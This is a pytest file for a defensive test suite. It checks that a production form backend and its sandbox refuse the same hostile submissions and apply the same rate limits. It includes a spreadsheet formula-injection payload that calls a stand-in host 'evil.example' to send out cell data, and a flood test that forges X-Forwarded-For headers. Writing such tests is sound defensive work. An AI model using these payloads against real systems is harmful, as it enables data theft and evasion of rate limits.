"""One hostile corpus, two places that must refuse it alike: the database's form functions behind the
real PostgREST, and the sandbox's endpoints (services.funnel.submission).

Every case is what a stranger can send with the page's publishable key: forged columns, arrays,
padded and invisible text, wrong types, other encodings, made-up pages, wordings and tiers, the
honeypot. Each is sent to both; the status, the error code and the rows kept must be the same, so a
rehearsal in the sandbox meets the rules production holds. Then the limits (a flood from one client,
a second client right after, one page's allowance) and the count oracle, on both.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

import httpx
import psycopg
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.funnel.landing_pages import LandingPage
from services.funnel.submission import FormLimits, TryWindow, form_text
from services.sandbox.runtime import PUBLISHABLE_KEY, ready_sandbox
from tests.support.public_forms import (
    ANSWER,
    FEEDBACK_WITH_EMAIL,
    LEAD,
    LEAD_COLUMNS,
    SPACE,
    TIER,
    call,
    clear,
    record_page,
    rows,
)

DEFAULT_LIMITS = FormLimits()
FEEDBACK_KEPT = ("message", "contact_consent", "space_id", "tier")  # what the sandbox keeps of an answer


@dataclass(frozen=True)
class Case:
    name: str
    function: str
    body: Any = None
    raw: bytes | None = None
    content_type: str = "application/json"


def _lead(**change: Any) -> dict:
    return {**LEAD, **change}


def _answer(**change: Any) -> dict:
    return {**ANSWER, **change}


CORPUS = [
    Case("valid lead", "submit_lead", LEAD),
    Case("lead with only what is required", "submit_lead",
         {k: LEAD[k] for k in ("email", "delivery_consent", "consent_version", "space_id", "tier")}),
    Case("forged id", "submit_lead", _lead(id="00000000-0000-4000-8000-000000000000")),
    Case("forged created_at", "submit_lead", _lead(created_at="2099-01-01T00:00:00Z")),
    Case("unknown column", "submit_lead", _lead(favourite_colour="blue")),
    Case("required missing", "submit_lead", {k: v for k, v in LEAD.items() if k != "tier"}),
    Case("array of two", "submit_lead", [_lead(email="one@example.com"), _lead(email="two@example.com")]),
    Case("empty array", "submit_lead", []),
    Case("json null", "submit_lead", raw=b"null"),
    Case("empty body", "submit_lead", raw=b""),
    Case("broken json", "submit_lead", raw=b'{"email": '),
    Case("a json string", "submit_lead", "email=ada@example.com"),
    Case("text/plain", "submit_lead", raw=json.dumps(LEAD).encode(), content_type="text/plain"),
    Case("form-encoded", "submit_lead", raw=urlencode({"email": "ada@example.com", "delivery_consent": "true",
                                                       "consent_version": LEAD["consent_version"], "space_id": SPACE,
                                                       "tier": TIER}).encode(),
         content_type="application/x-www-form-urlencoded"),
    Case("made-up space", "submit_lead", _lead(space_id="brightrun/not-published")),
    Case("another tier", "submit_lead", _lead(tier="full")),
    Case("tier padded", "submit_lead", _lead(tier=" eq-100\u00a0")),
    Case("space padded", "submit_lead", _lead(space_id=f"\u200b{SPACE} ")),
    Case("forged wording", "submit_lead", _lead(consent_version="2099-01-01")),
    Case("role not offered", "submit_lead", _lead(role="Chief Executive Hacker")),
    Case("role padded", "submit_lead", _lead(role="  Research\u2003")),
    Case("no delivery consent", "submit_lead", _lead(delivery_consent=False)),
    Case("delivery consent null", "submit_lead", _lead(delivery_consent=None)),
    Case("delivery consent 'yes'", "submit_lead", _lead(delivery_consent="yes")),
    Case("delivery consent 1", "submit_lead", _lead(delivery_consent=1)),
    Case("delivery consent 'maybe'", "submit_lead", _lead(delivery_consent="maybe")),
    Case("marketing consent 'on'", "submit_lead", _lead(marketing_consent="on")),
    Case("marketing consent object", "submit_lead", _lead(marketing_consent={"a": 1})),
    Case("bad email", "submit_lead", _lead(email="not-an-email")),
    Case("email with a space inside", "submit_lead", _lead(email="ada\u00a0lovelace@example.com")),
    Case("email padded", "submit_lead", _lead(email="\t Ada@Example.com\u3000\u200b")),
    Case("email too long", "submit_lead", _lead(email="a@b.c" + "x" * 260)),
    Case("email with a NUL", "submit_lead", _lead(email="ada\u0000@example.com")),
    Case("name padded to a megabyte", "submit_lead", _lead(name="Ada" + " " * 1_000_000)),
    Case("name of 201", "submit_lead", _lead(name="n" * 201)),
    Case("name of 200 and invisibles", "submit_lead", _lead(name="n" * 200 + "\u200b" * 50 + "\u202e")),
    Case("name with controls", "submit_lead", _lead(name="Ada\u0007\u001b[31m Love\u0085lace\u2028")),
    Case("name only invisible", "submit_lead", _lead(name="\u200b\u2060\ufeff")),
    Case("name a number", "submit_lead", _lead(name=5)),
    Case("name an object", "submit_lead", _lead(name={"b": 1, "aa": [1, True]})),
    Case("formula name", "submit_lead", _lead(name='=HYPERLINK("http://evil.example/?x="&A2,"x")')),
    Case("utm too long", "submit_lead", _lead(utm_campaign="u" * 101)),
    Case("honeypot filled", "submit_lead", _lead(website="http://spam.example")),
    Case("honeypot blank", "submit_lead", _lead(website=" \u200b ")),
    Case("valid answer", "submit_feedback", ANSWER),
    Case("answer with an email", "submit_feedback", FEEDBACK_WITH_EMAIL),
    Case("answer email without consent", "submit_feedback", _answer(email="ada@example.org")),
    Case("answer consent without wording", "submit_feedback", _answer(contact_consent=True)),
    Case("answer consent forged wording", "submit_feedback",
         {**FEEDBACK_WITH_EMAIL, "consent_version": "2099-01-01"}),
    Case("answer consent without email", "submit_feedback",
         _answer(contact_consent=True, consent_version=FEEDBACK_WITH_EMAIL["consent_version"])),
    Case("answer padded to a megabyte", "submit_feedback", _answer(message="x" + "\u2003 \n" * 350_000)),
    Case("answer of 1001", "submit_feedback", _answer(message="m" * 1001)),
    Case("answer of 1000 and spaces", "submit_feedback", _answer(message=" ".join(["m" * 9] * 100) + "   \t ")),
    Case("answer only spaces", "submit_feedback", _answer(message=" \u00a0\u3000 ")),
    Case("answer made-up space", "submit_feedback", _answer(space_id="someone/else")),
    Case("answer forged time", "submit_feedback", _answer(created_at="1999-01-01")),
    Case("answer honeypot", "submit_feedback", _answer(website="x")),
]
TABLE_INSERTS = [("leads", {k: v for k, v in LEAD.items() if k != "website"}),
                 ("feedback", {k: v for k, v in ANSWER.items() if k != "website"})]


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory):
    return ready_sandbox(tmp_path_factory.mktemp("public-forms") / "sandbox", port=0, story=False)


@dataclass
class Both:
    supabase: Any
    sandbox: Any

    def reset(self, limits: FormLimits = DEFAULT_LIMITS) -> None:
        clear(self.supabase.db_uri, limits.per_client_per_minute, limits.per_page_per_minute)
        record_page(self.supabase.url, self.supabase.key("service_role"))
        for log in (self.sandbox.lead_log, self.sandbox.answer_log, self.sandbox.landing_pages):
            log.path.unlink(missing_ok=True)
        self.sandbox.landing_pages.record(LandingPage(space_id=SPACE, tier=TIER))
        self.sandbox.hub.extension.forms.window = TryWindow(limits)

    def send(self, case: Case, source: str | None = None) -> tuple[httpx.Response, httpx.Response]:
        real = call(self.supabase.url, self.supabase.key("anon"), case.function, case.body, raw=case.raw,
                    content_type=case.content_type, source=source)
        rehearsed = call(self.sandbox.url, PUBLISHABLE_KEY, case.function, case.body, raw=case.raw,
                         content_type=case.content_type, source=source)
        return real, rehearsed

    def kept(self) -> tuple[tuple[list[dict], list[dict]], tuple[list[dict], list[dict]]]:
        real = (rows(self.supabase.db_uri, "leads"),
                [{k: r[k] for k in FEEDBACK_KEPT} for r in rows(self.supabase.db_uri, "feedback")])
        rehearsed = ([{k: getattr(lead, k) for k in LEAD_COLUMNS} for lead in self.sandbox.lead_log.read()],
                     [{k: getattr(a, k) for k in FEEDBACK_KEPT} for a in self.sandbox.answer_log.read()])
        return real, rehearsed


def _said(response: httpx.Response) -> tuple[int, str | None]:
    return response.status_code, (response.json().get("code") if response.content else None)


@pytest.fixture
def both(supabase, sandbox) -> Both:
    pair = Both(supabase, sandbox)
    pair.reset(FormLimits(per_client_per_minute=1000, per_page_per_minute=1000))
    return pair


@pytest.mark.parametrize("case", CORPUS, ids=lambda c: c.name)
def test_each_hostile_call_meets_the_same_rules_in_production_and_in_the_sandbox(both, case):
    real, rehearsed = both.send(case)
    assert _said(real) == _said(rehearsed), (real.text[:300], rehearsed.text[:300])
    kept_real, kept_rehearsed = both.kept()
    assert kept_real == kept_rehearsed
    assert sum(map(len, kept_real)) <= 1  # one call, one row at most


def test_what_the_corpus_leaves_is_one_honest_row_per_accepted_call(both):
    """The stored rows themselves, not only their agreement: the database set the time, text is clean."""
    for name in ("name with controls", "email padded", "tier padded", "name padded to a megabyte"):
        both.reset(FormLimits(1000, 1000))
        both.send(next(c for c in CORPUS if c.name == name))
        (lead,) = rows(both.supabase.db_uri, "leads")
        assert lead["tier"] == TIER and lead["space_id"] == SPACE
        assert lead["email"] == ("Ada@Example.com" if name == "email padded" else "ada@example.com")
        assert lead["name"] == {"name with controls": "Ada[31m Love lace", "name padded to a megabyte": "Ada"}.get(
            name, "Ada")


@pytest.mark.parametrize(("table", "row"), TABLE_INSERTS, ids=lambda v: v if isinstance(v, str) else "")
def test_the_tables_take_no_insert_from_the_page_in_either_place(both, table, row):
    for base, key in ((both.supabase.url, both.supabase.key("anon")), (both.sandbox.url, PUBLISHABLE_KEY)):
        answer = httpx.post(f"{base}/rest/v1/{table}", json=row, headers={
            "apikey": key, "Authorization": f"Bearer {key}", "Prefer": "return=minimal"})
        assert (answer.status_code, answer.json()["code"]) == (401, "42501"), base
    assert both.kept() == (([], []), ([], []))


@pytest.mark.parametrize("where", ["production", "sandbox"])
def test_a_flood_from_one_client_stores_at_most_the_limit_and_the_next_client_gets_through(supabase, sandbox, where):
    pair = Both(supabase, sandbox)
    pair.reset()  # the defaults: 5 a minute per client, 60 per page
    base, key = (supabase.url, supabase.key("anon")) if where == "production" else (sandbox.url, PUBLISHABLE_KEY)
    statuses = []
    with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2"), timeout=30) as flood:
        for i in range(300):
            forged = {"X-Forwarded-For": f"10.0.{i // 250}.{i % 250}"}  # the client's own word counts for nothing
            statuses.append(call(base, key, "submit_lead", _lead(email=f"bot{i}@example.com"), headers=forged,
                                 client=flood).status_code)
    assert statuses[:5] == [204] * 5 and set(statuses[5:]) == {429}
    second = call(base, key, "submit_lead", _lead(email="human@example.com"), source="127.0.0.3")
    assert second.status_code == 204
    (real_leads, _), (sandbox_leads, _) = pair.kept()
    kept = real_leads if where == "production" else sandbox_leads
    assert [lead["email"] for lead in kept] == [f"bot{i}@example.com" for i in range(5)] + ["human@example.com"]
    assert call(base, key, "submit_lead", _lead(email="later@example.com"), source="127.0.0.2").json()["message"] \
        == "too many tries, please wait a minute"


@pytest.mark.parametrize("where", ["production", "sandbox"])
def test_one_pages_allowance_is_shared_by_its_visitors_and_refused_tries_do_not_use_it(supabase, sandbox, where):
    pair = Both(supabase, sandbox)
    pair.reset(FormLimits(per_client_per_minute=3, per_page_per_minute=7))
    base, key = (supabase.url, supabase.key("anon")) if where == "production" else (sandbox.url, PUBLISHABLE_KEY)
    seen = []
    for client in range(2, 6):  # four visitors, four tries each: 3 + 3 + 1 kept, then the page is full
        for i in range(4):
            seen.append(call(base, key, "submit_feedback", _answer(message=f"visitor {client} idea {i}"),
                             source=f"127.0.0.{client}").status_code)
    assert seen == [204, 204, 204, 429] * 2 + [204, 429, 429, 429] + [429] * 4
    kept = pair.kept()[0 if where == "production" else 1][1]
    assert len(kept) == 7


def test_the_minute_passes(supabase, sandbox):
    """Tries older than a minute no longer count, and the database prunes them itself."""
    pair = Both(supabase, sandbox)
    pair.reset(FormLimits(per_client_per_minute=1, per_page_per_minute=60))
    anon = supabase.key("anon")
    assert call(supabase.url, anon, "submit_lead", _lead(email="a@example.com")).status_code == 204
    assert call(supabase.url, anon, "submit_lead", _lead(email="b@example.com")).status_code == 429
    with psycopg.connect(supabase.db_uri, autocommit=True) as db:
        db.execute("UPDATE private.public_form_tries SET at = at - interval '61 seconds'")
        hashes = db.execute("SELECT client_hash FROM private.public_form_tries").fetchall()
    assert all(len(h) == 64 and "127.0.0.1" not in h for (h,) in hashes)  # a salted hash, never the address
    assert call(supabase.url, anon, "submit_lead", _lead(email="b@example.com")).status_code == 204
    with psycopg.connect(supabase.db_uri) as db:
        assert db.execute("SELECT count(*) FROM private.public_form_tries").fetchone()[0] == 1  # the old one pruned
    clock = [0.0]
    window = TryWindow(FormLimits(per_client_per_minute=1), clock=lambda: clock[0])
    window.admit("a", SPACE)
    clock[0] = 60.5
    window.admit("a", SPACE)  # a minute later: allowed again


@pytest.mark.parametrize("where", ["production", "sandbox"])
def test_the_answer_never_tells_whether_an_address_is_known(supabase, sandbox, where):
    pair = Both(supabase, sandbox)
    pair.reset(FormLimits(100, 100))
    base, key = (supabase.url, supabase.key("anon")) if where == "production" else (sandbox.url, PUBLISHABLE_KEY)
    call(base, key, "submit_lead", LEAD)
    oracle = {"Prefer": "count=exact, return=representation"}
    known = call(base, key, "submit_lead", _lead(marketing_consent=True), headers=oracle)
    new = call(base, key, "submit_lead", _lead(email="new@example.com"), headers=oracle)
    assert (known.status_code, known.content) == (new.status_code, new.content) == (204, b"")
    assert known.headers.get("content-range") == new.headers.get("content-range")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)),
                              max_size=30), min_size=1, max_size=20))
def test_the_database_and_the_sandbox_normalise_text_alike(supabase, texts):
    with psycopg.connect(supabase.db_uri) as db:
        got = db.execute("SELECT array_agg(private.form_text(t) ORDER BY n) FROM unnest(%s::text[]) "
                         "WITH ORDINALITY AS u(t, n)", (texts,)).fetchone()[0]
    assert got == [form_text(t) for t in texts]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.lists(st.text(alphabet="tTrRuUeEfFaAlLsSyYnNoO01 \t", max_size=6), min_size=1, max_size=10))
def test_a_boolean_given_as_text_is_read_as_postgresql_reads_it(supabase, words):
    from services.funnel.submission import SubmissionRefusedError, _boolean

    with psycopg.connect(supabase.db_uri, autocommit=True) as db:
        for word in words:
            try:
                expected: bool | None = db.execute("SELECT %s::boolean", (word,)).fetchone()[0]
            except psycopg.errors.InvalidTextRepresentation:
                expected = None
            try:
                got: bool | None = _boolean(word)
            except SubmissionRefusedError as exc:
                assert exc.code == "22P02"
                got = None
            assert got == expected, repr(word)
